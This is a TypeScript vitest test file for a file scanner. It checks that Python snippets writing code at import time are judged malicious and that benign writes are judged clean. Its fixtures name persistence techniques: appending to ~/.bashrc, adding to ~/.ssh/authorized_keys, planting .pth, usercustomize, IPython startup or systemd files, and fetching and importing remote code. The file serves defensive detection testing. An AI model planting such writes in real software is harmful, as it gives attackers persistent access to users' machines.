import { describe, expect, it } from "vitest";
import { scanBytes } from "../../core/scan-bytes.js";

const verdict = (...lines: string[]): string =>
  scanBytes(Buffer.from(`${lines.join("\n")}\n`), "m.py").verdict;
const CODE = "'import os; os.system(1)'";

/** Each was seen to write, or to run what it wrote, when CPython 3.11 imported it. */
const WRITES: readonly (readonly [string, ...string[]])[] = [
  ["code, which it imports", "with open('z.py', 'w') as f:", `    f.write(${CODE})`, "import z"],
  ["code by a path, which it imports", `Path('z.py').write_text(${CODE})`, "import z"],
  ["code, which it runs", `open('z.py', 'w').write(${CODE})`, "runpy.run_path('z.py')"],
  ["code into an archive", `zipfile.ZipFile('z.zip', 'w').writestr('z.py', ${CODE})`],
  ["code line by line", "f = open('z.py', 'w')", "f.writelines(['import os\\n', 'os.system(1)\\n'])"],
  ["code that it prints", `with open('z.py', 'w') as f: print(${CODE}, file=f)`],
  ["a start-up file after a separator", "h = os.path.expanduser('~')", "open(h + os.sep + '.bashrc', 'a')"],
  ["what it fetches, and imports it", "urlretrieve('http://192.0.2.1/z.py', 'z.py')", "import z"],
  ["a start-up file in a home", "open(os.path.join(os.environ['HOME'], '.bashrc'), 'a')"],
  ["a start-up file after a variable", "h = os.getenv('HOME')", "open(h + '/.bashrc', 'a')"],
  ["a start-up file after a path", "open(str(Path.home()) + '/.bashrc', 'a')"],
  ["a start-up file by a path and a join", "open(os.path.join(Path.home(), '.bashrc'), 'a')"],
  ["a start-up file by named arguments", "open(file='/root/.bashrc', mode='a')"],
  ["a start-up file through io", "io.open(os.path.expanduser('~/.bashrc'), mode='a')"],
  ["a start-up file through os", "os.open(os.path.expanduser('~/.bashrc'), os.O_WRONLY | os.O_CREAT)"],
  ["a start-up file of a list", "for t in ['.bashrc']: open(os.path.join('/root', t), 'a')"],
  ["a copy to keys", "shutil.copy('k', os.path.expanduser('~/.ssh/authorized_keys'))"],
  ["another name for it", "os.rename('k', os.path.expanduser('~/.bashrc'))"],
  ["what Python runs first", "open(os.path.join(site.getusersitepackages(), 'x.pth'), 'w')"],
  ["what a user's Python runs first", "open(site.getusersitepackages() + '/usercustomize.py', 'w')"],
  ["what IPython runs first", "open(os.path.expanduser('~/.ipython/profile_default/startup/0.py'), 'w')"],
  ["a service", "open(os.path.expanduser('~/.config/systemd/user/x.service'), 'w')"],
];
const IMPORTS = [
  "import io, os, runpy, shutil, site, zipfile",
  "from pathlib import Path",
  "from urllib.request import urlretrieve",
];

describe("Python that writes", () => {
  it.each(WRITES)("%s", (_, ...lines) => expect(verdict(...IMPORTS, ...lines)).toBe("malicious"));

  it.each([
    ["its version", "open('version.py', 'w').write('version = 1')"],
    ["a model that it fetches", "urlretrieve('https://example.org/m.pth', 'm.pth')"],
    ["a checkpoint", "open(os.path.join('site', 'model.pth'), 'wb')"],
    ["nothing, and reads how the shell starts", "open(os.path.join(os.environ['HOME'], '.bashrc')).read()"],
    ["a start-up file, when somebody calls it", "def f(): (Path.home() / '.bashrc').write_text('x')"],
    ["code, when somebody calls it", "def f():", `    open('z.py', 'w').write(${CODE})`],
  ])("%s: clean", (_, ...lines) => expect(verdict(...IMPORTS, ...lines)).toBe("clean"));
});
